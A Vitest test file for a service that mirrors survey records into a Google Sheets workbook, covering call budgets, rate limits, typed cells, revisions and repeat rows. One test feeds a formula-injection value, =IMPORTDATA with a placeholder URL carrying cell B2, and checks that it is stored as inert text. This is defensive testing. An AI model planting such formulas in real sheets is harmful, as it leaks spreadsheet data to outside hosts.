import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type Rig, rowsIn, startRig } from './rig.ts'

let rig: Rig
beforeEach(async () => {
  rig = await startRig()
  await rig.settle('poll')
  rig.sheet.calls.reset()
})
afterEach(() => rig.close())

const columnOf = (title: string, label: string) => rig.sheet.book.values(title)[0]?.indexOf(label) ?? -1

describe('calls', () => {
  test('200 records are one read and one write', async () => {
    for (let number = 1; number <= 200; number += 1)
      rig.send(number, { nom: `Nom ${number}`, jour: '2018-09-24' })
    await rig.run()
    expect(rig.calls()).toEqual({ reads: 1, writes: 1 })
    expect(rowsIn(rig, 'Essais').size).toBe(200)
    expect(await rig.state()).toMatchObject({ pending: 0, lastError: null, parked: null })
  })

  test('1,000 records of 20 columns are one read and one write', async () => {
    const answers = {
      nom: 'Appui aux migrants de retour',
      tel: '0770000000',
      nombre: 120,
      jour: '2018-09-24',
      periode: '2018-10',
      heure: '14:30',
      region: 'SN01',
      themes: ['retour', 'enfants'],
      lieu: { lat: 14.7, lon: -17.4 },
      accord: true,
      acteurs: ['Organisation exemple A'],
      commentaire: 'Un commentaire',
      criteres: [{ critere: 'Mêmes termes' }],
    }
    for (let number = 1; number <= 1000; number += 1) rig.send(number, answers)
    await rig.run()
    expect(rig.calls()).toEqual({ reads: 1, writes: 1 })
    expect(rowsIn(rig, 'Essais').size).toBe(1000)
    expect(rig.sheet.calls.list.every(({ bytesIn }) => bytesIn < 2_000_000)).toBe(true)
  })

  test('nothing due is no call; a pass asked for is one read', async () => {
    await rig.run()
    expect(rig.calls()).toEqual({ reads: 0, writes: 0 })
    await rig.run(true)
    expect(rig.calls()).toEqual({ reads: 1, writes: 0 })
  })

  test('a record due again with nothing new is one read and no write', async () => {
    rig.send(1, { nom: 'Un' })
    await rig.run()
    rig.sheet.calls.reset()
    const [record] = rig.records.all.values()
    if (record) rig.records.put(record)
    await rig.run()
    expect(rig.calls()).toEqual({ reads: 1, writes: 0 })
    expect((await rig.state()).pending).toBe(0)
  })

  test('long answers go in writes of 2 MB at most', async () => {
    for (let number = 1; number <= 60; number += 1) rig.send(number, { nom: 'é'.repeat(49_000) })
    await rig.settle()
    expect(rig.calls().writes).toBeGreaterThan(1)
    expect(rowsIn(rig, 'Essais').size).toBe(60)
    expect((await rig.state()).pending).toBe(0)
  })

  test('our own allowance is kept: 45 reads a minute, then a pause', async () => {
    for (let pass = 0; pass < 60; pass += 1) await rig.run(true)
    expect(rig.calls().reads).toBeLessThanOrEqual(45)
    expect((await rig.state()).lastError).toMatch(/pause/)
    rig.wait(61_000)
    await rig.run(true)
    expect((await rig.state()).lastError).toBeNull()
  })

  test('more rows than the grid has are added, dressed like the first', async () => {
    for (let number = 1; number <= 1050; number += 1) rig.send(number, { nom: 'x', jour: '2018-09-24' })
    await rig.settle()
    expect(rowsIn(rig, 'Essais').size).toBe(1050)
    const last = rig.sheet.book.cell('Essais', 1051, columnOf('Essais', 'Jour'))
    expect(last.userEnteredFormat?.numberFormat).toMatchObject({ type: 'DATE' })
    expect(rig.sheet.book.cell('Essais', 1051, 1).dataValidation).toMatchObject({ strict: false })
  })
})

describe('what a row shows', () => {
  test('is typed: dates, numbers and texts, and no text is a formula', async () => {
    rig.send(1, {
      nom: '=IMPORTDATA("https://example.org/?"&B2)',
      tel: '+221770000000',
      jour: '2018-09-24',
      heure: '18:00',
    })
    await rig.run()
    expect(rowsIn(rig, 'Essais').get('ES-0001')).toMatchObject({
      Statut: 'Reçue',
      Nom: '=IMPORTDATA("https://example.org/?"&B2)',
      Téléphone: '+221770000000',
      Jour: 43367,
      Heure: 0.75,
    })
    expect(rig.sheet.book.cell('Essais', 2, columnOf('Essais', 'Nom')).userEnteredValue).toEqual({
      stringValue: '=IMPORTDATA("https://example.org/?"&B2)',
    })
  })

  test('a revision writes the changed cells alone', async () => {
    rig.send(1, { nom: 'Un', tel: '01' })
    rig.send(2, { nom: 'Deux', tel: '02' })
    await rig.run()
    rig.sheet.calls.reset()
    rig.wait(5000)
    rig.send(2, { nom: 'Deux', tel: '03' })
    await rig.run()
    const { sheetId } = rig.sheet.book.sheet('Essais').properties
    const { requests } = JSON.parse(rig.sheet.calls.list.at(-1)?.body ?? '{}') as {
      requests: { updateCells?: { range: { sheetId: number }; rows: { values: object[] }[] } }[]
    }
    const cells = requests.flatMap(({ updateCells }) =>
      updateCells?.range.sheetId === sheetId ? updateCells.rows.flatMap(({ values }) => values) : [],
    )
    expect(cells).toHaveLength(2)
    expect(rowsIn(rig, 'Essais').get('ES-0002')).toMatchObject({ Nom: 'Deux', Téléphone: '03' })
  })

  test('a status changed by us is written; the coordinator’s own words are not written over', async () => {
    rig.send(1, { nom: 'Un' })
    await rig.run()
    rig.sheet.book.edit('Essais', 2, columnOf('Essais', 'Note du coordinateur'), 'à rappeler')
    rig.send(1, { nom: 'Un' }, { status: 'validee' })
    await rig.run()
    expect(rowsIn(rig, 'Essais').get('ES-0001')).toMatchObject({
      Statut: 'Validée',
      'Note du coordinateur': 'à rappeler',
    })
    rig.send(1, { nom: 'Un' }, { status: 'validee', coordination: { note: 'rappelé', assignee: 'Awa' } })
    await rig.run()
    expect(rowsIn(rig, 'Essais').get('ES-0001')).toMatchObject({
      'Note du coordinateur': 'rappelé',
      Responsable: 'Awa',
    })
  })

  test('a mirror-owned cell typed over is put back when its record is due', async () => {
    rig.send(1, { nom: 'Un' })
    await rig.run()
    rig.sheet.book.edit('Essais', 2, columnOf('Essais', 'Nom'), 'autre')
    rig.send(1, { nom: 'Un', tel: '1' })
    await rig.run()
    expect(rowsIn(rig, 'Essais').get('ES-0001')).toMatchObject({ Nom: 'Un', Téléphone: '1' })
  })
})

describe('a write that its answer does not show', () => {
  test('leaves the records due, waits, and is confirmed by the next read without a second row', async () => {
    const original = globalThis.fetch
    globalThis.fetch = async (input, init) => {
      const response = await original(input, init)
      return String(input).includes(':batchUpdate') ? new Response('{}') : response
    }
    try {
      rig.send(1, { nom: 'Un' })
      expect((await rig.run()).kind).toBe('waiting')
      expect(await rig.state()).toMatchObject({ pending: 1, lastError: expect.stringContaining('visibles') })
      await rig.settle()
    } finally {
      globalThis.fetch = original
    }
    expect(rowsIn(rig, 'Essais').size).toBe(1)
    expect(await rig.state()).toMatchObject({ pending: 0, lastError: null })
    expect(rig.calls()).toEqual({ reads: 2, writes: 1 })
  })
})

describe('the rows of a repeat', () => {
  test('follow their record: added, changed, taken away and put back', async () => {
    const zone = (name: string) => ({ zone: name, point: { lat: 14.7, lon: -17.4 } })
    rig.send(1, { nom: 'Un', zones: [zone('Dakar'), zone('Pikine'), zone('Kolda')] })
    await rig.run()
    expect([...rowsIn(rig, 'Zones').keys()]).toEqual(['ES-0001/1', 'ES-0001/2', 'ES-0001/3'])
    expect(rowsIn(rig, 'Zones').get('ES-0001/2')).toMatchObject({ 'N°': 2, Nom: 'Un', Zone: 'Pikine' })
    rig.send(1, { nom: 'Un', zones: [zone('Dakar'), zone('Thiès')] })
    await rig.run()
    expect(rowsIn(rig, 'Zones').get('ES-0001/2')).toMatchObject({ Zone: 'Thiès' })
    const removed = rowsIn(rig, 'Zones').get('ES-0001/3') ?? {}
    expect(Object.values(removed).filter((value) => value !== '')).toEqual([
      'ES-0001/3',
      'Ligne retirée de la fiche',
    ])
    rig.send(1, { nom: 'Un', zones: [zone('Dakar'), zone('Thiès'), zone('Louga')] })
    await rig.run()
    expect(rowsIn(rig, 'Zones').get('ES-0001/3')).toMatchObject({
      Zone: 'Louga',
      'Remarque de synchronisation': '',
    })
    expect(rowsIn(rig, 'Zones').size).toBe(3)
  })
})
